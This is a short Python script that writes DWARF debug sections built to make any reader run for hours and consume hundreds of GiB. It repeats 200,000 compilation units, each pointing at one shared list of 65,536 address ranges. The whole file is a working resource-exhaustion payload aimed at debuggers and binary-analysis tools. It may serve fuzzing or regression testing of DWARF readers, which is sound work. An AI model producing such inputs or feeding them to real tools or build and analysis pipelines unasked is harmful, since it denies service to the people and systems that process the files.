#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0-only
"""endless_dwarf.py DIR: write sections of valid DWARF that takes hours and hundreds of GiB to read.

DIR/info has 200,000 compilation units. Each refers to the one list of 65,536 address ranges in
DIR/ranges, so that a reader has to read 13,000,000,000 ranges.
"""
import struct
import sys

UNITS = 200_000
RANGES = 65_536
DW_TAG_compile_unit, DW_AT_ranges, DW_AT_low_pc = 0x11, 0x55, 0x11
DW_FORM_sec_offset, DW_FORM_addr = 0x17, 0x01

directory = sys.argv[1]
abbreviation = bytes([1, DW_TAG_compile_unit, 0, DW_AT_low_pc, DW_FORM_addr,
                      DW_AT_ranges, DW_FORM_sec_offset, 0, 0, 0])
body = struct.pack("<HIB", 4, 0, 8) + bytes([1]) + struct.pack("<QI", 0, 0)
unit = struct.pack("<I", len(body)) + body
ranges = b"".join(struct.pack("<QQ", 0x1000 + 16 * i, 0x1008 + 16 * i) for i in range(RANGES))
for name, contents in (("abbrev", abbreviation), ("info", unit * UNITS),
                       ("ranges", ranges + bytes(16)), ("line", bytes(64))):
    with open(f"{directory}/{name}", "wb") as file:
        file.write(contents)
